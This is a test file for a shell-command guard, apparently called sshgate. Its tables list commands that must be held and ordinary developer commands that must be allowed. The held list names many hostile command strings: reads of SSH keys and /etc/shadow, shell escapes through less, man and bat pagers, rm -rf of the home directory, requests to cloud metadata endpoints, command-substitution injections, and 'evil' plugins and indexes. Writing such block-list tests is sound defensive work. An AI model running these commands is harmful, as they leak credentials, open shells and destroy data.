"""Ordinary lines that were held and have a shape that is provably safe (issue 15, ordinary
held too often): a pager reading files, a TLS handshake to look at a certificate, an empty
file in a subdirectory. Each with the spellings of the same tools that must stay held."""

from __future__ import annotations

from sshgate.guard import classify
from sshgate.guard.parse import parse

from .expect import table_tests

HELD = [
    # less: its key commands are off (LESSSECURE=1 pinned); its own options and +commands
    # that write, run or open other files are not ordinary
    "less '+!sh' app.log", "less '+|id' app.log", "less +v app.log", "less '+s /tmp/x' app.log",
    "less '+:e /etc/shadow' app.log", "less -o ~/.bashrc app.log", "less --log-file=x app.log",
    "less -O x app.log", "less -k keys app.log", "less --lesskey-src=k app.log",
    "less -t tag", "less ~/.ssh/id_rsa", "less /etc/shadow", "less *.log",
    "LESS=-o/tmp/x less app.log", "export LESSKEY=/tmp/k; less app.log",
    "LESSOPEN='|sh %s' less app.log",
    # openssl s_client: never piped data, secrets, files it writes, code it loads
    "cat notes.txt | openssl s_client -connect e.example:443",
    "echo hi | openssl s_client -connect e.example:443",
    "export -p | openssl s_client -connect e.example:443",
    "cd - | openssl s_client -connect e.example:443",
    "sleep --help | openssl s_client -connect e.example:443",
    "grep --count x < /dev/null | openssl s_client -connect e.example:443",
    "echo -e '\\x41' | openssl s_client -connect e.example:443",
    "printf '%5s' | openssl s_client -connect e.example:443",
    "openssl s_client -connect e.example:443 < notes.txt",
    "openssl s_client -connect e.example:443 <<< data",
    "openssl s_client -connect 169.254.169.254:80",
    "openssl s_client -connect metadata.google.internal:80",
    "openssl s_client -connect e.example:443 -key ~/.ssh/id_rsa",
    "openssl s_client -connect e.example:443 -cert c.pem -pass pass:x",
    "openssl s_client -connect e.example:443 -sess_out /tmp/s",
    "openssl s_client -connect e.example:443 -keylogfile ~/.bashrc",
    "openssl s_client -connect e.example:443 -engine /tmp/x.so",
    "openssl s_client -connect e.example:443 -provider evil",
    "openssl s_client -connect e.example:443 -CAfile ~/.ssh/id_rsa",
    # touch: not at the top of the tree (a home), not under a dot-directory, not out of it
    "touch ./.bash_profile", "touch .hushlogin", "touch .git/index.lock",
    "touch a/.ssh/x", "touch ../x/.keep", "touch build/../.profile",
    "touch bin/.x", "touch -d yesterday build/.keep", "touch build/$X/.keep",
    "touch /etc/nologin", "touch .config/x/.keep",
    # scratch space takes data-format files, never a build file's name, a dot-file, code or
    # a bare repository's config
    "echo x > /tmp/package.json", "echo x > /tmp/r/config", "echo x > /tmp/r/HEAD",
    "echo x > /tmp/.env", "echo x > /tmp/x.py", "cp a.sh /tmp/x.sh", "cp a /tmp/a/.git/x.yml",
    "cp a.env /tmp/tox.ini", "cp a /tmp/pyproject.toml",
    "echo x > /tmp/x.yml && kubectl apply -f /tmp/x.yml",
    "cp c.yml /tmp/c.yml && docker compose -f /tmp/c.yml up -d",
# --- held-out developer lines (corpus_dev.py): the dangerous spellings of each tool that
# --- became ordinary. rg: never -L, --type-add, non-source globs, a tree out of the working
# --- one; git clean without -n, git apply that writes; npm ... -- a config, setup, require,
# --- output, root or host; pytest/ruff/coverage reports out of the tree, configs, plugins;
# --- make -C out of the tree; docker build -f a Dockerfile not in place; patch without
# --- --dry-run; man pagers, browsers, files; compilers beyond --version; gofmt -w -r;
# --- poetry/uv: installs by name, env files, interpreters or indexes by path, the command
# --- they run judged on its own; sphinx/mkdocs out of the tree, servers, deploys;
# --- json.tool's output file; a .venv program out of the tree or in a fetched tree; globs
# --- that may read as options or leave the tree; dot-files that are not ignore lists
    'rg x -t py -L', "rg x --type-add 'py:*.pem' -t py", "rg x -g '*.pem' -t py",
    "rg x -t py -g '*.env'", 'rg x -t sh', 'rg x -t ruby', 'rg x -t java', 'rg x -t py ~',
    'rg x -t py /etc', 'rg x -t py ..', 'rg x -t py /home', 'cd ~ && rg -t py password',
    "rg x --iglob '*.key' -t py", 'rg --pre ./x -t py x', 'git clean -f', 'git clean -fd',
    'git clean -n -f', 'git clean -i', 'git clean -x', 'git apply x.patch',
    'git apply --apply --stat x.patch', 'git apply --check --unsafe-paths x.patch',
    'git apply --check --directory=/etc x.patch', 'git apply --reject --check x.patch',
    'git apply --build-fake-ancestor=/tmp/x --check x.patch', 'git apply --check ~/.ssh/id_rsa',
    'git check-ignore --stdin', "git for-each-ref --format='%(refname)' --stdin",
    'git merge-base --output=x a b', 'npm test -- --config=/tmp/x.js',
    'npm test -- --setupFiles /tmp/x.js', 'npm test -- --outputFile=.bashrc',
    'npm test -- --rootDir /', 'npm test -- --reporter=./evil.js', 'npm test -- --require ./x.js',
    'npm test -- -r x', 'npm test -- ../../etc/passwd', 'npm test -- /etc/passwd',
    'npm test -- ~/.ssh/id_rsa', 'npm test -- $X', 'npm test -- *', 'npm test -- --watch=maybe',
    'npm run lint -- -o .bashrc', 'npm run lint -- --output-file ~/.bashrc',
    'npm run test -- --globalSetup=/tmp/x.js', 'npm test foo', 'npm run ../x',
    'pnpm run dev -- --host 0.0.0.0', 'npm test -- --inspect',
    'npm test -- --node-options=--require=/tmp/x.js', 'python3 -m pytest --cov-report=html:/etc/x',
    'python3 -m pytest --cov-report=xml:/home/u/.bashrc',
    'python3 -m pytest --cov-report=xml:Makefile',
    'python3 -m pytest --cov-report=annotate:/tmp/x', 'python3 -m pytest --cov-config=/tmp/x',
    'pytest --cov-report=json:.bashrc', 'pytest --html=~/.bashrc', 'pytest --html=Makefile',
    'pytest --basetemp=/', 'pytest -p evil', 'pytest --pdb', 'ruff check --config /tmp/x.toml .',
    'ruff check --output-file ~/.bashrc .', 'ruff check --fix /etc', 'ruff check --fix ../other',
    'make -C /tmp/x', 'make -C ../x', 'make -C ~', 'make -C $D', 'make --directory=/etc',
    'make -f /tmp/x.mk', 'docker build -f /tmp/Dockerfile.x .',
    'docker build -f ../Dockerfile.x .', 'docker build -f Dockerfile.test --build-context x=/ .',
    'docker build -f Dockerfile.test -o /tmp/out .',
    "echo 'FROM x' > Dockerfile.t && docker build -f Dockerfile.t .",
    'cp /tmp/x Dockerfile.prod', 'patch -p1 < x.patch',
    'patch -p1 -o /etc/passwd --dry-run < x.patch', 'patch --dry-run -d /etc < x.patch',
    'patch --dry-run -i ~/.ssh/id_rsa', 'patch -B /tmp/x --dry-run < x.patch',
    "man -P 'sh -c id' ls", 'man -H ls', 'man -l /etc/shadow', 'man /etc/shadow', 'man ./x.1',
    'man -C /tmp/x ls', 'man --pager=id ls', 'man -M /tmp ls', 'col < ~/.ssh/id_rsa',
    'col /etc/shadow', 'rustc x.rs', 'rustc -o /tmp/x x.rs', 'gcc -o x /tmp/x.c',
    "perl -e 'print 1'", "gofmt -w -r 'a -> b' .", 'gofmt -w /etc', 'gofmt -l ../x',
    'gofmt -cpuprofile /tmp/x .', 'golangci-lint run -c /tmp/x.yml',
    'golangci-lint run --config=/tmp/x.yml', 'golangci-lint run --out-format=json:/home/u/.bashrc',
    'golangci-lint run /etc', 'golangci-lint custom', 'coverage run x.py', 'coverage erase',
    'coverage combine', 'coverage report --rcfile=/tmp/x', 'coverage html -d ~/.ssh',
    'coverage xml -o ~/.bashrc', 'coverage report --data-file=/etc/shadow', 'poetry add requests',
    'poetry install --with x -C /tmp/x', 'poetry run rm -rf ~',
    'poetry run', 'poetry self add x', 'poetry config --list', 'poetry -C /tmp/x install',
    'uv run rm -rf ~', 'uv run --with evil pytest', 'uv run --env-file /tmp/x pytest',
    'uv run --python /tmp/x/python pytest', 'uv run -p /tmp/py pytest',
    'uv run --index-url http://evil pytest', "uv run python -c 'import os; os.system(\"id\")'",
    'uv run --frozen rm -rf ~', 'uv run script.py', 'uv pip install requests',
    'uv pip install https://evil/x.whl', 'uv pip install -r /tmp/req.txt', 'uv add requests',
    'uv tool run x', 'uv sync --index-url http://evil', 'uvx ruff',
    'sphinx-build -b html docs ~/.ssh', 'sphinx-build -b html /etc out',
    'sphinx-build -c /tmp -b html docs out', 'sphinx-build -D extensions=evil -b html docs out',
    'sphinx-build -b html docs .git', 'mkdocs serve -a 0.0.0.0:80', 'mkdocs gh-deploy',
    'mkdocs build -f /tmp/x.yml', 'mkdocs build -d ~/.ssh', 'python3 -m json.tool a.json out.json',
    'python3 -m json.tool ~/.ssh/id_rsa', 'python3 -m json.tool /etc/shadow',
    'python3 -m json.tool $F', 'python3 -m http.server',
    ".venv/bin/python -c 'import shutil; shutil.rmtree(\"/srv\")'", '../.venv/bin/pytest',
    '/tmp/x/.venv/bin/pytest',
    '~/.venv/bin/pytest', '.venv/bin/../../x', '.venv/bin/pip install requests',
    'cd /tmp/x && .venv/bin/pip list',
    'git clone https://github.com/e/x y && cd y && .venv/bin/pytest',
    'git clone https://github.com/e/x .venv && .venv/bin/pytest', '.venv/lib/x/bin/pytest',
    'shellcheck *.sh', 'shellcheck -- *', 'shellcheck src/{..,x}/y.sh', 'shellcheck ../*.sh',
    'shellcheck $X/*.sh', 'pytest tests/*', 'black *.py', 'echo x > .bashrc',
    'echo x > .gitignore.sh', 'echo x > .git/info/exclude', 'echo x > .gitconfig',
    'echo x > ~/.config/.gitignore/x', 'echo x > x/.ssh/.gitignore', 'cp x .ssh/.gitignore',
    'echo x > /etc/.gitignore', '.venv/bin/pip install requests',
    # python -m linters and build, pytest -p/-W, pnpm workspaces, rustfmt, tsc,
    # jest/vitest/mocha by name, cmake, ninja: configs, plugins, scripts, other trees
    'python3 -m pylint --load-plugins=evil src', 'python3 -m flake8 --config /tmp/x src',
    'python3 -m isort --settings-path /tmp/x .', 'python3 -m coverage run x.py',
    'python -m build /tmp/x', 'python -m build -o ~/.ssh', 'python -m build -C x=y',
    'python -m build --installer /tmp/x', 'pytest -p evil', 'pytest -p no:x -p evil',
    'pytest -W error::evil.Warning', "pytest -W 'error:::evil'",
    'pytest -W error::pkg.mod.Warning', 'npm run build -- --mode ../x',
    'npm run build -- --mode .env', 'pnpm --dir /tmp/x test', 'pnpm -C /tmp/x test',
    'pnpm --filter x exec rm -rf ~', 'pnpm -r exec rm -rf ~', 'pnpm -r add evil',
    'go generate /tmp/x/...', 'go generate -x ../evil', 'rustfmt --config-path /tmp/x src/main.rs',
    'rustfmt /etc/x.rs', 'tsc --outDir ~/.ssh', 'tsc --outFile ~/.bashrc x.ts', 'tsc -p /tmp/x',
    'tsc --watch', 'tsc /etc/shadow', 'tsc --generateTrace /tmp/x', 'jest --config /tmp/x.js',
    'jest --setupFiles ./x.js', 'jest --rootDir /', 'jest --outputFile=.bashrc --json', 'vitest',
    'vitest --config /tmp/x.ts run', 'vitest run --root /tmp', 'vitest run --config=/tmp/x.ts',
    'mocha --require /tmp/x.js', 'mocha -r x', 'mocha /tmp/x.js', 'mocha --ui ./evil.js',
    'cmake -DCMAKE_C_COMPILER=/tmp/x -S . -B build', 'cmake -E remove_directory ~',
    'cmake -P /tmp/x.cmake', 'cmake --install build', 'cmake -S /tmp/x -B build',
    'cmake -B ~/.ssh', 'cmake -C /tmp/x.cmake .', 'cmake ..', 'ninja -f /tmp/x.ninja',
    'ninja -t clean', 'ninja -C /tmp/x', 'ninja -C ~',
    # git reset that discards, fd -x/-X, bat --pager/cache/secrets, cargo fix
    'git reset --hard HEAD~1', 'git reset --merge', 'git reset --keep HEAD~1', 'git reset -p',
    'git reset --pathspec-from-file=/tmp/x', 'git reset --recurse-submodules HEAD', 'fd -x rm {}',
    'fd -e py -X rm', 'fd --exec rm', "fd --exec-batch sh -c 'id'",
    'fd --ignore-file /etc/shadow x', 'fd $X', 'bat ~/.ssh/id_rsa', 'bat /etc/shadow',
    "bat --pager 'sh -c id' x.txt", 'bat cache --build --source /tmp/x',
    'bat --generate-config-file', 'bat --diff x', 'bat $F', 'cd ~/.ssh && bat id_ed25519',
    'batcat .env', 'shasum -a 256 $(cat list)', 'staticcheck -debug.cpuprofile=/tmp/x ./...',
    'staticcheck /etc', 'cargo fix --allow-dirty',
    'cargo clippy --fix --allow-dirty --config \'build.rustc-wrapper="/tmp/x"\'',
    # a pass-through word with a shell character (npm 6 double-quotes them: $ and ` expand)
    "npm test -- -t '$(id)'", "npm test -- -t 'a;id'", "npm test -- 'a b'",
    "npm test -- '`id`'", "npm run test:unit -- -t 'a --config=/tmp/x'", "jest -t '$(id)'",
    # a tree glob whose component may match .. (src/.*/.* climbs out)
    "pytest src/.*/.*/etc", "shellcheck x/.*", "black src/[.]*/x.py",
]

ALLOWED = [
    "less +G /var/log/syslog", "less app.log", "less -N app.log", "less -S +F app.log",
    "less +/ERROR app.log", "less -R -p ERROR app.log", "kubectl logs x | less",
    "less +100 app.log", "less /var/log/messages",
    "echo | openssl s_client -connect api.example.com:443 -servername api.example.com "
    "2>/dev/null | openssl x509 -noout -enddate",
    "openssl s_client -connect example.com:443 -servername example.com </dev/null",
    "openssl s_client -connect db.internal:5432 -starttls postgres -brief </dev/null",
    "echo -n | openssl s_client -showcerts -connect example.com:443",
    "true | openssl s_client -connect example.com:443", "cd /srv && : | openssl s_client "
    "-connect example.com:443",
    "touch build/.keep", "touch src/__init__.py", "mkdir -p build && touch build/.gitkeep",
    "touch logs/.keep tmp/.keep", "touch tests/unit/conftest.py",
    "cp config/prod.example.env /tmp/prod.env", "kubectl get svc api -o yaml > /tmp/api.yaml",
    "echo x > /var/tmp/notes.conf",
    # held-out developer lines (corpus_dev.py): the ordinary family of each class
    'rg -n TODO -t py', "rg -tgo 'func main'", 'rg --type=ts,js useState src',
    "rg -n deprecated -g '*.py' -g '!vendor'", 'rg -l x -t rust --hidden', 'rg -c x -tpy -u',
    'git merge-base --is-ancestor main HEAD', 'git show-ref --tags',
    "git for-each-ref --sort=-committerdate --format='%(refname:short)' refs/heads",
    'git cherry -v main', 'git count-objects -vH', 'git check-ignore -v build/out.o',
    'git clean -nd', 'git clean --dry-run -x', 'git apply --check fix.patch',
    'git apply --stat /tmp/fix.patch', 'git apply --check -p1 -R fix.patch', "git ls-files '*.py'",
    "git log --oneline -- 'src/*.ts'", "git tag -l 'v2.*'", "git branch --list 'feat/*'",
    'npm test -- --watchAll=false', 'npm test -- --coverage --ci',
    "npm run test:unit -- -t 'renders.button'", 'npm run lint -- --fix',
    'pnpm run dev -- --port 5173', 'yarn run test -- --runInBand',
    'npm test -- src/utils/format.test.ts',
    'npm run e2e -- --project=chromium --workers 2 --reporter=line', 'npm test -- --shard=1/3',
    'pytest --cov=src --cov-report=term-missing', 'pytest --cov=app --cov-report=xml',
    'pytest --cov=app --cov-report html:htmlcov',
    'python3 -m pytest --cov-report=xml:reports/coverage.xml',
    'pytest --html=report.html --self-contained-html', 'pytest --version', 'python3 -m pytest -h',
    'pytest tests/test_*.py -q', 'ruff check --fix .', 'ruff check --fix --unsafe-fixes src/',
    'make -C docs html', 'make --directory=frontend build', 'make -C services/api test',
    '.venv/bin/pip install -r requirements.txt', '.venv/bin/python -m pytest -q',
    './.venv/bin/ruff check .', '.venv/bin/pytest -x', '.venv/bin/python --version',
    'poetry install', 'poetry install --no-root --with dev', 'poetry run pytest -q',
    'poetry show --tree', 'poetry check', 'poetry env info -p', 'uv sync --frozen',
    'uv run pytest -q', 'uv run --frozen python -m pytest', 'uv run ruff check .',
    'uv pip install -r requirements.txt', 'uv pip list', 'uv tree --depth 1', 'uv --version',
    'gofmt -l .', 'gofmt -d internal/', 'gofmt -s -w ./cmd', 'golangci-lint run ./...',
    'golangci-lint run --timeout 5m -E gosec,errcheck', 'golangci-lint linters',
    'coverage report -m', 'coverage html -d htmlcov', 'coverage xml -o coverage.xml',
    'sphinx-build -b html docs docs/_build', 'sphinx-build -M html docs build -W',
    'mkdocs build --strict', 'mkdocs build -d site', 'man git-rebase | col -b | head -80',
    'man 5 crontab', 'man -k socket', 'man -f ls', 'col -bx < notes.txt',
    'patch -p1 --dry-run < fix.patch', 'patch --dry-run -p0 -i fix.patch',
    'python3 -m json.tool data/sample.json', 'python -m json.tool --sort-keys < out.json',
    'curl -s localhost:8080/api | python3 -m json.tool', 'rustc --version', 'gcc --version',
    'javac -version', 'perl -v', 'deno --version', 'cmake --version', "echo '*.log' >> .gitignore",
    "printf 'node_modules/\\n' >> .dockerignore", 'echo dist >> web/.prettierignore',
    'docker build -t app:test -f Dockerfile.test .', 'docker build -f api.Dockerfile -t api .',
    'shellcheck scripts/*.sh', 'black src/*.py --check', 'pytest tests/unit/test_*.py',
    'python3 -m flake8 src', 'python3 -m isort --check-only .', 'python3 -m pylint src/app',
    'python3 -m coverage report -m', 'python -m build', 'python3 -m build --wheel -o dist',
    'pytest -q -p no:cacheprovider', 'pytest -q -W error', 'pytest -W ignore::DeprecationWarning',
    'npm run build -- --mode production', 'pnpm -r test', 'pnpm --filter web build',
    'pnpm -F api run lint',
    'rustfmt --check src/main.rs', 'tsc --noEmit', 'tsc -p tsconfig.build.json',
    'tsc --outDir dist', 'jest --coverage', 'jest src/utils', 'vitest run',
    'vitest run --reporter=dot', 'mocha --reporter spec', 'cmake -S . -B build',
    'cmake --build build -j 4', 'ninja -C build', 'ninja -C build test',
    'git reset --soft HEAD~1', 'git reset HEAD~1', 'git reset', 'git reset -- src/app.py',
    'git reset -q HEAD package-lock.json', 'fd -e py', 'fd -t f . src', 'fdfind -H -e md',
    "fd -g '*.test.ts' src", 'bat src/main.py', 'batcat -p README.md',
    'bat -n -r 10:40 src/app.py', 'exa -la', 'eza --tree -L 2', 'shasum -a 256 dist/app.tgz',
    'shasum -c SHA256SUMS', 'cargo clippy --fix --allow-dirty', 'staticcheck ./...',
    'staticcheck -checks all ./internal/...',
]

test_held, test_allowed = table_tests(HELD, ALLOWED)


def test_the_parser_says_which_globs_bash_expands() -> None:
    """A glob in quotes or escaped is one literal word; the fast path and bashlex agree."""
    for line, expands in (("git ls-files '*.py' *.md \\*.c \"x?\" y", (False, True, False,
                                                                      False, False)),
                          # the second fast path (quoted words, no backslash) says it too
                          ("git ls-files '*.py' *.md \"x?\" y", (False, True, False, False))):
        for plain in (True, False):
            c = parse(line, plain=plain).commands[0]
            assert c.globbed == (False, False, *expands), (line, plain)


def test_project_runners_are_wrappers_the_rules_see_into() -> None:
    """``poetry run``/``uv run`` run the command after their options: the rules judge it (an
    option parsed wrongly would hide it; unlisted ones leave the line unknown besides)."""
    for line in ("poetry run rm -rf ~/data", "uv run --frozen rm -rf ~/data",
                 "uv -q run -- rm -rf ~/data", "poetry -C app run rm -rf ~/data",
                 "uv run --with x rm -rf ~/data"):
        rules = {f.rule for f in classify(line).findings}
        assert "fs.rm-recursive" in rules, (line, rules)
